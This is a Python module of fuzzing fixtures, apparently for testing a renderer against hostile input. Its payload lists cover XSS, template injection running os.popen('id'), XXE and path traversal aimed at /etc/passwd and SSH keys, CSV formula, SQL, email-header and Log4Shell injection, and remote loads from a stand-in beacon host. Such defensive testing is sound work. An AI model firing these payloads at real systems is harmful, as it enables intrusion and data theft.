"""The hostile texts, by what they are after.

`BEACON` and `CANARY` stand for an address that listens and a file that must not be read; `aimed`
puts the real ones in.
"""

import itertools

BEACON = "http://beacon.invalid"
"""Stands for an address on this machine that notes who calls."""
CANARY = "/canary/secret.txt"
"""Stands for a file whose content must never show."""

_B, _C = BEACON, CANARY

HTML = (
    f'<img src="{_B}/img.png">',
    f"<img src='{_B}/a.png' onerror=alert(1)>",
    f"<IMG SRC={_B}/b.png>",
    f'<image href="{_B}/c.png">',
    "<script>alert(1)</script>",
    f'<script src="{_B}/s.js"></script>',
    f'<link rel="stylesheet" href="{_B}/x.css">',
    f'<link rel="attachment" href="file://{_C}">',
    f"<a rel='attachment' href='file://{_C}'>x</a>",
    f'<iframe src="{_B}/f"></iframe>',
    f'<object data="{_B}/o.svg"></object>',
    f'<embed src="{_B}/e.svg">',
    f'<meta http-equiv="refresh" content="0;url={_B}/r">',
    f'<base href="{_B}/">',
    f'<body background="{_B}/bg.png">',
    f'<table background="{_B}/t.png"><tr><td>x',
    f'<video poster="{_B}/v.png">',
    f'<input type="image" src="{_B}/i.png">',
    f'<form action="{_B}/q"><input name=a></form>',
    f'<picture><source srcset="{_B}/p.png"><img></picture>',
    "<b>bold</b>",
    "<u>x</u><s>y</s>",
    "</td></tr></table>",
    "</div></section></body></html>",
    "</title><h1>x</h1>",
    "<!-- comment",
    "--><b>x</b>",
    "<!DOCTYPE html>",
    "<![CDATA[ x ]]>",
    "<?xml version='1.0'?>",
    "<textarea>",
    "<plaintext>",
    "<xmp>x</xmp>",
    "<details open ontoggle=alert(1)>",
    "<p style='position:fixed;top:0'>x</p>",
    "<br><br><br>",
    "<hr/>",
    "<td colspan=1000000>",
    "<ol start=99999999><li>x</ol>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><b>x',
    "'><b>x",
    '"/><b>x',
    "` onerror=`x",
    "&lt;b&gt;",
    "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "&amp;amp;lt;",
    "&nbsp;&shy;&zwj;",
    "&#0;&#1114112;&#xd800;",
    "&unknown;",
    "& && &",
    "AT&T <> 5 < 7 > 3",
    "<",
    ">",
    "<a",
    "a<b",
    "</",
    "<<<<<<<<",
    "<div" * 60,
    "<b>" * 80,
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "vbscript:x",
    f"<a href='{_B}/link'>link</a>",
    "<a href='javascript:x'>x</a>",
    f'<math href="{_B}/m">x</math>',
    f"<style>@import '{_B}/i.css';</style>",
    f"<p style=\"background:url({_B}/q)\">x</p>",
    "<img src=x:y alt=a>",
    "<q cite=x>", "<ruby>x<rt>y</ruby>", "<template><b>x</b></template>",
    "<noscript><b>x</noscript>",
)  # fmt: skip

CSS = (
    f"url({_B}/u)",
    f'url("{_B}/u2")',
    f"@import url({_B}/i.css);",
    f"}} body {{ background: url({_B}/bg) }}",
    f"; background-image: url({_B}/x)",
    "expression(alert(1))",
    "-moz-binding:url(x)",
    "color: red; position: absolute",
    "*/ body { display: none } /*",
    "/* x",
    "\\3c b\\3e",
    "content: attr(x)",
    "@page { size: 1mm }",
    "</style><b>x</b>",
    f"@font-face {{ src: url({_B}/font) }}",
    "#000; width: 999999pt",
    "1pt solid red",
    "calc(1px + 9e99px)",
)

JINJA = (
    "{{ 7 * 7 }}",
    "{{7*7}}",
    "{{ page.brand }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% include '/etc/passwd' %}",
    f"{{% include '{_C}' %}}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% raw %}",
    "{% endblock %}{% endif %}",
    "{# comment",
    "{{ '<b>'|safe }}",
    "{{ x }}{{",
    "}}{{ x",
    "{{ 'x' * 10 ** 9 }}",
    "{% set x = 1 %}",
    "{%- if 1 -%}",
    "<%= 7*7 %>",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "@(7*7)",
    "[[${7*7}]]",
)

SVG = (
    f'<svg><image href="{_B}/i.png"/></svg>',
    f'<svg xmlns="http://www.w3.org/2000/svg"><use href="{_B}/u.svg#x"/></svg>',
    f"<svg><script href='{_B}/s.js'/></svg>",
    "<svg onload=alert(1)>",
    "</text><rect width='999' height='999'/>",
    "</title></svg><b>x</b>",
    "<tspan>x</tspan>",
    f"<foreignObject><img src='{_B}/x'></foreignObject>",
    f'<!DOCTYPE x [<!ENTITY y SYSTEM "file://{_C}">]><svg>&y;</svg>',
    f'<?xml-stylesheet href="{_B}/x.css"?>',
    "<animate attributeName=x>",
    f"<feImage href='{_B}/fe'/>",
)

ADDRESSES = (
    f"{_B}/plain",
    f"{_B}/?a=b&c=d#e",
    f"see {_B}/a now",
    "//beacon.invalid/rel",
    "file:///etc/passwd",
    f"file://{_C}",
    f"FILE://{_C}",
    f"file://localhost{_C}",
    "https://assets.invalid/report.css",
    "https://assets.invalid/../../etc/passwd",
    "chart:1",
    "chart:999",
    "ftp://example.invalid/x",
    "\\\\server\\share\\x",
    "data:image/svg+xml,<svg/>",
    "http://[::1]/",
    "http://user:pass@example.invalid/",
    "mailto:x@example.invalid?bcc=y@example.invalid",
    "tel:+4912345",
    "urn:x:y",
)

CONTROLS = (
    "nul\x00nul",
    "\x00",
    "\x00\x00\x00x",
    "bell\x07",
    "esc\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "back\x08space",
    "del\x7f",
    "\x80\x85\x9f",
    "form\x0cfeed",
    "vertical\x0btab",
    "unit\x1fsep",
    "tab\there",
    "line\nbreak",
    "return\rhere",
    "both\r\nhere",
    "\u2028line\u2029para",
    "next\x85line",
    "".join(chr(code) for code in range(32)),
    "\ufffe\uffff",
    "\ufdd0\ufdef",
    "\U0001fffe\U0010ffff",
    "\ufffc object",
    "\ufff9a\ufffab\ufffb",
    "\ufffd",
    "private \ue000\uf8ff",
    "\U000f0000\U00100000",
    "unassigned \u0378\U000e0fff",
    "soft\u00adhyphen",
)

BIDI = (
    "user\u202egnp.exe",
    "\u202ereversed",
    "\u202dforced",
    "\u202aembed\u202c",
    "\u202bembed",
    "\u2066isolate\u2069",
    "\u2067isolate",
    "\u2068first",
    "\u2069\u202c\u2069\u202c",
    "\u200emark\u200f",
    "\u061cmark",
    "\u202e" * 200 + "x",
    "(\u202e)(",
    "a\u2067b\u2069c\u202ed",
)

ZERO_WIDTH = (
    "zero\u200bwidth",
    "\u200b\u200b\u200b",
    "\u200b",
    "joined\u200dup",
    "\u200c\u200d",
    "\ufeffbom",
    "bo\ufeffm",
    "\u2060word\u2060joiner",
    "\u2061\u2062\u2063\u2064",
    "\u180emongol",
    "\u034fgrapheme",
    "\u3164hangul\u115f\u1160\uffa0",
    "\U000e0001\U000e0041\U000e0042",
    "\ufe00\ufe0f",
    "x\ufe0f\ufe0f\ufe0f\ufe0f",
    "\u206a\u206f",
    "\u17b4\u17b5",
    "\u00a0\u2007\u202f",
    "\u2000\u2001\u2002\u2003\u200a\u205f\u3000",
    "braille\u2800blank",
)

TOWERS = (
    "Z" + "\u0300\u0316" * 40,
    "a" + "\u0308" * 100,
    "\u0301alone",
    "\u20dd\u20de\u20e0",
    "x\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd",
    "o\u20dd\u0301\u20dd\u0301\u20dd\u0301\u20dd\u0301",
    "\u0e01" + "\u0e49" * 60,
    "\u0915" + "\u0941" * 50,
    "e\u0489\u0489\u0489\u0489",
    "Ą̶̛̭̹̮̬̈́̋̌" * 5,
    "\u1ab0" * 50,
    "\ufe20\ufe21" * 20,
    "".join(letter + "\u030a\u0323\u0331" for letter in "tower"),
)

SURROGATES = (
    "\ud800",
    "\udc00x",
    "x\udfffy",
    "\udc00\ud800",
    "\ud83d\ude00",
    "\ud800" * 50,
    "Müller\udcfc",
    "\udcff\udcfe",
)

ASTRAL = (
    "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪🇹🇷", "👍🏽", "1️⃣",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "❤️‍🔥", "𝒞𝓊𝓇𝓈𝒾𝓋𝑒", "𝕯𝖔𝖚𝖇𝖑𝖊", "𝟘𝟙𝟚", "𠜎𠜱𠝹", "𒀀𒀁", "𐍈", "🀄🂡", "🫠🫨", "\U0001f1e6" * 40,
    "👨" + "\u200d👨" * 40, "𝐀" * 100, "\U0001d173\U0001d17a",
)  # fmt: skip

LONG = (
    "W" * 300,
    "W" * 10_000,
    "long word " * 1000,
    "\u4e2d" * 5000,
    "م" * 3000,
    "a\n" * 2000,
    "-" * 4000,
    "W" * 3999 + "\u0301\u0301\u0301",
    "&" * 5000,
    "i" * 4001,
    " " * 5000 + "x",
    "x" + " " * 5000,
    "\u00a0" * 3000,
    "a" + "\u00ad" * 3000,
    "www." + "x" * 250 + ".example",
)

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x.invalid","y")',
    "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"//\"))", "%0A=1+1", "|calc", "1,234.56", "1e999", "-0",
    "0x1F", "١٢٣", "½", "²³", "Ⅷ", "7", "17%", "5 pts", "38 min", "3.43 of 5", "1 1 1 1 1 1 1 1",
    "11% of 11% at 11%", "0", "00", "−5", "1/0", "NaN", "Infinity", "None", "null", "undefined",
    "true", "[object Object]",
)  # fmt: skip

PATHS = (
    "../../../../etc/passwd", "..\\..\\windows\\system32", "/etc/passwd", "C:\\boot.ini", "C:",
    "~root/.ssh/id_rsa", "~", ".", "..", "...", "....//....//x", "./x", ".hidden", "x/", "/", "//",
    "\\", "a/b/c", "a\\b\\c", "x/../../y", "%2e%2e%2fx", "..%2f..%2fx", "..%c0%af..", "%00", "%5c",
    "%252e%252e", "\u2215etc\u2215passwd", "\uff0fetc\uff0fpasswd", "\u2024\u2024/x",
    "\uff0e\uff0e/",
    "x.pdf", "x.pdf\x00.exe", "report.PDF", "a:b", "a*b?c", "a|b", "a;b", "a>b", "$HOME", "`id`",
    "$(id)", "{customer}", "{period}", "{0}", "trailing.", "trailing ", "trailing. . .", " leading",
    "name.pdf.", "-rf", "--help", "a\x00b", "s3://bucket/x", "file.lock", "?query", "#fragment",
)  # fmt: skip

RESERVED = (
    "CON", "con", "PRN", "AUX", "NUL", "nul.pdf", "COM1", "com9.txt", "LPT1", "COM¹", "LPT²",
    "COM³",
    "CONIN$", "CONOUT$", "CLOCK$", "CON ", "CON.", "aux.h", "NUL.tar.gz", "COM0", "ＣＯＮ",
    "desktop.ini",
    "Thumbs.db", ".DS_Store", "$MFT", "lost+found", "nul\u200b", "c\u200bon",
)  # fmt: skip

HEADERS = (
    "a\r\nBcc: victim@example.invalid",
    "a\nBcc: victim@example.invalid",
    "a\rBcc: victim@example.invalid",
    "a\r\n\r\n<html>body",
    "a\r\n .\r\nMAIL FROM:<x@example.invalid>",
    "\r\n.\r\n",
    "a\x85Bcc: x@example.invalid",
    "a\u2028Bcc: x@example.invalid",
    "a\x0bBcc: x@example.invalid",
    "a\x00\r\nTo: x@example.invalid",
    "%0d%0aBcc:x@example.invalid",
    "a, victim@example.invalid",
    '"a" <victim@example.invalid>',
    "<victim@example.invalid>",
    "victim@example.invalid, b@example.invalid",
    "a;b@example.invalid",
    "group: a@example.invalid;",
    "(comment) a@example.invalid",
    'a" <x@example.invalid>, "b',
    "a\\",
    'a\\"',
    '"',
    "=?utf-8?q?=0D=0ABcc:_x@example.invalid?=",
    "=?utf-8?b?DQpCY2M6IHhAZXhhbXBsZS5pbnZhbGlk?=",
    "=?x?",
    "?= =?",
    "Reply-To: x@example.invalid",
    "name\r\n\tfolded",
    "a@b@c",
    "filename=\"x\"; filename*=utf-8''y",
    "x.pdf\"; name=\"y.exe",
    "boundary=x\r\n--x\r\nContent-Type: text/html",
    "--=",
    "From here on",
    ">From",
)  # fmt: skip

NORMAL_FORMS = (
    "Ångström", "A\u030angstro\u0308m", "\u212bngstrom", "ﬁle ﬂow ﬀ ﬃ ﬄ ﬆ", "ﷺ", "ﷺ" * 40, "㎏㏄㈱",
    "①②③", "ｆｕｌｌｗｉｄｔｈ", "＜ｂ＞", "﹤b﹥", "ſ", "İstanbul ıI", "ß ẞ", "ǆ ǅ", "Σσς",
    "\u0344", "\u1e9b\u0323",
    "가\u1100\u1161", "é e\u0301", "\u2126 \u03a9", "ﾊﾟ", "\u0340\u0341", "Ⅷ ℃ ™",
)  # fmt: skip

SCRIPTS = (
    "شركة الخليج", "مرحبا <b>x</b> ١٢٣", "עברית abc 123", "שָׁלוֹם", "abc שלום def مرحبا",
    "(ع) [ب]",
    "فارسی می\u200cخواهم", "हिन्दी क्षत्रिय", "தமிழ் நிறுவனம்", "ไทย ภาษา", "日本語の会社",
    "中文 公司", "한국어 회사",
    "Ελληνικά", "Кириллица", "Şirket Ğüneş İı", "አማርኛ", "ქართული", "Հայերեն", "မြန်မာ", "ខ្មែរ",
    "བོད་ཡིག",
    "ܣܘܪܝܝܐ", "ᐃᓄᒃᑎᑐᑦ", "ﷲ", "لا إله", "ـــــ", "аdmin", "раураl", "Ζero", "‹›«»„“", "naïve café",
    "Ο'Νeil",
    "日本" * 40, "كلمةطويلةجدا" * 30,
)  # fmt: skip

FORMATS = (
    "%s%s%s%n", "%(x)s", "%d", "%", "%%", "100%", "{}", "{0}", "{value}", "{value:>99999999}",
    "{x.__class__}", "{customer.__init__.__globals__}", "{", "}", "{{", "}}", "{!r}", "{0.a[b]}",
    "$x", "${HOME}", "$$", "\\n\\r\\t", "\\x00", "\\u202e", "\\", "\\1", "\\g<0>", "%1$s", "$&",
    "$1",
    "%c0%ae", "%u0041", "&#37;",
)  # fmt: skip

DATA = (
    '{"a": 1}', '"}], "x": [{', "', 'x': '", "\\\"", "\\u0000", "]}", "null", "true", "key: value",
    "- item", "&anchor", "*alias", "<<: *x", "!!python/object:os.system", "!!binary x", "| block",
    "> folded", "# comment", "---", "...", "%YAML 1.1", "yes", "no", "on", "~", "0o17", "1:30", "'",
    "''", '""', "`", "@at", "a: b: c", "[a, b]", "{a: b}", "__proto__", "constructor", "../*",
    "' OR '1'='1", "'; DROP TABLE runs;--", "1; SELECT pg_sleep(9)", "${jndi:ldap://x.invalid/a}",
    "<xml>&lol;</xml>", "a,b;c\td", '"a","b"',
)  # fmt: skip

BLANKS = (
    "",
    " ",
    "   ",
    "\t",
    "\n",
    "\u00a0",
    "\u3000",
    "\u200b ",
    " x ",
    "a  b",
    "\n\n\nx",
    "x\u00a0y",
)

GROUPS: dict[str, tuple[str, ...]] = {
    "html": HTML,
    "css": CSS,
    "jinja": JINJA,
    "svg": SVG,
    "addresses": ADDRESSES,
    "controls": CONTROLS,
    "bidi": BIDI,
    "zero width": ZERO_WIDTH,
    "towers": TOWERS,
    "surrogates": SURROGATES,
    "astral": ASTRAL,
    "long": LONG,
    "formulas": FORMULAS,
    "paths": PATHS,
    "reserved": RESERVED,
    "headers": HEADERS,
    "normal forms": NORMAL_FORMS,
    "scripts": SCRIPTS,
    "formats": FORMATS,
    "data": DATA,
    "blanks": BLANKS,
}
ALL = tuple(dict.fromkeys(itertools.chain.from_iterable(GROUPS.values())))
"""Each of them once."""


def aimed(text: str, beacon: str, canary: str) -> str:
    """The text with the real address and the real file."""
    for placeholder, real in ((_B, beacon), (_host(_B), _host(beacon)), (_C, canary)):
        text = text.replace(placeholder, real)
    return text


def _host(address: str) -> str:
    return address.partition("//")[2]
